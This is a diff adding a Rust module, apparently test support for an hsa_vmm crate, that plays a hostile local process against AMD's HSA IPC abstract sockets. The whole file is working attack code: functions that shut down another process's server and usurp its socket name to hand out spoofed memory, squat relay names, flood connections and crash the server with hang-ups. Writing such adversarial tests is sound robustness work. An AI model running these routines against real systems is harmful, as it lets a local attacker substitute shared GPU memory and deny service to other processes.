@@ -1,0 +1,149 @@
+//! What a hostile process does with AMD's protocol: the abstract sockets `hsa<number>`.
+
+use hsa_vmm::IpcHandle;
+use rustix::net::{
+    RecvAncillaryBuffer, RecvAncillaryMessage, RecvFlags, SendAncillaryBuffer,
+    SendAncillaryMessage, SendFlags, recvmsg, sendmsg,
+};
+use std::io::{IoSlice, IoSliceMut, Read, Write};
+use std::mem::MaybeUninit;
+use std::os::fd::{AsFd, OwnedFd};
+use std::os::linux::net::SocketAddrExt;
+use std::os::unix::net::{SocketAddr, UnixListener, UnixStream};
+use std::time::{Duration, Instant};
+
+const PATIENCE: Duration = Duration::from_secs(20);
+/// What AMD's server reads at a time.
+const REQUEST: usize = 64;
+/// The request that ends AMD's server.
+const END: u64 = u64::MAX;
+
+fn address(number: i32) -> SocketAddr {
+    let mut name = [0; 107];
+    let text = format!("hsa{number}");
+    name[..text.len()].copy_from_slice(text.as_bytes());
+    SocketAddr::from_abstract_name(name).expect("short enough")
+}
+
+fn connect(number: i32) -> std::io::Result<UnixStream> {
+    UnixStream::connect_addr(&address(number))
+}
+
+fn request(pointer: u64) -> [u8; REQUEST] {
+    let mut request = [0; REQUEST];
+    let text = pointer.to_string();
+    request[..text.len()].copy_from_slice(text.as_bytes());
+    request
+}
+
+/// The address that a handle of AMD's server asks for.
+pub fn pointer(handle: &IpcHandle) -> u64 {
+    u64::from_le_bytes(handle.to_bytes()[..8].try_into().expect("eight bytes"))
+}
+
+/// The memory of a handle, as AMD's server of its process hands it out.
+fn fetch(handle: &IpcHandle) -> OwnedFd {
+    let mut stream = connect(handle.process()).expect("a server");
+    let request = request(pointer(handle));
+    stream.write_all(&request).expect("it reads");
+    let mut space = [MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
+    let mut control = RecvAncillaryBuffer::new(&mut space);
+    let mut bytes = [0];
+    let mut parts = [IoSliceMut::new(&mut bytes)];
+    recvmsg(&stream, &mut parts, &mut control, RecvFlags::CMSG_CLOEXEC).expect("an answer");
+    let descriptor = control.drain().find_map(|message| match message {
+        RecvAncillaryMessage::ScmRights(mut descriptors) => descriptors.next(),
+        _ => None,
+    });
+    stream.write_all(&request).expect("it waits for this");
+    descriptor.expect("a descriptor")
+}
+
+fn answer(stream: &UnixStream, descriptor: impl AsFd) {
+    let mut space = [MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
+    let mut control = SendAncillaryBuffer::new(&mut space);
+    let descriptors = [descriptor.as_fd()];
+    assert!(control.push(SendAncillaryMessage::ScmRights(&descriptors)));
+    // The other end may have gone.
+    let _ = sendmsg(stream, &[IoSlice::new(b"y")], &mut control, SendFlags::NOSIGNAL);
+}
+
+fn take_name(number: i32) -> UnixListener {
+    let begun = Instant::now();
+    loop {
+        match UnixListener::bind_addr(&address(number)) {
+            Ok(listener) => return listener,
+            Err(error) if begun.elapsed() > PATIENCE => panic!("hsa{number}: {error}"),
+            Err(_) => std::thread::sleep(Duration::from_millis(1)),
+        }
+    }
+}
+
+/// Has another process's server end, takes its name, and hands out memory of one's own from then on.
+pub fn usurp(process: i32, own: &IpcHandle) {
+    let mut stream = connect(process).expect("a server");
+    stream.write_all(&request(END)).expect("it reads");
+    drop(stream);
+    let listener = take_name(process);
+    let memory = fetch(own);
+    std::thread::spawn(move || {
+        while let Ok((mut stream, _)) = listener.accept() {
+            let mut request = [0; REQUEST];
+            // Whoever looks before asking does not ask.
+            if stream.read(&mut request).is_ok_and(|read| read > 0) {
+                answer(&stream, &memory);
+                let _ = stream.read(&mut request);
+            }
+        }
+    });
+}
+
+/// Takes the names that the relays of a process had before they were random.
+pub fn squat(process: i32) {
+    let names = (0..128).map(|turn| take_name(1 << 30 | turn << 22 | process));
+    std::mem::forget(names.collect::<Vec<_>>());
+}
+
+/// Connects to all relays of others that it sees, for as long as this process lives.
+pub fn flood() {
+    std::thread::spawn(|| {
+        let mut connected = Vec::new();
+        loop {
+            let sockets = std::fs::read_to_string("/proc/net/unix").expect("/proc is mounted");
+            let numbers = sockets.lines().filter_map(|line| {
+                let name = line.split_whitespace().nth(7)?.trim_end_matches('@');
+                let number: i64 = name.strip_prefix("@hsa")?.parse().ok()?;
+                // Not AMD's own servers.
+                (!(0..1 << 22).contains(&number)).then_some(number as i32)
+            });
+            for number in numbers {
+                connected.extend((0..8).filter_map(|_| connect(number).ok()));
+            }
+            let excess = connected.len().saturating_sub(64);
+            connected.drain(..excess);
+        }
+    });
+}
+
+/// Asks AMD's server for memory again and again, and hangs up before it answers, until it ends: it does
+/// if a connection ends after it has answered.
+pub fn hang_up(handle: &IpcHandle, times: usize) {
+    for _ in 0..times {
+        let Ok(mut stream) = connect(handle.process()) else { return };
+        // It may have ended meanwhile, with the connection in its queue.
+        let _ = stream.write_all(&request(pointer(handle)));
+    }
+}
+
+/// Waits where this process's server would, and hands out what is no memory, and hangs up at once.
+pub fn serve_and_hang_up() {
+    let listener = take_name(std::process::id() as i32);
+    std::thread::spawn(move || {
+        let null = std::fs::File::open("/dev/null").expect("it is there");
+        while let Ok((mut stream, _)) = listener.accept() {
+            if stream.read(&mut [0; REQUEST]).is_ok_and(|read| read > 0) {
+                answer(&stream, &null);
+            }
+        }
+    });
+}
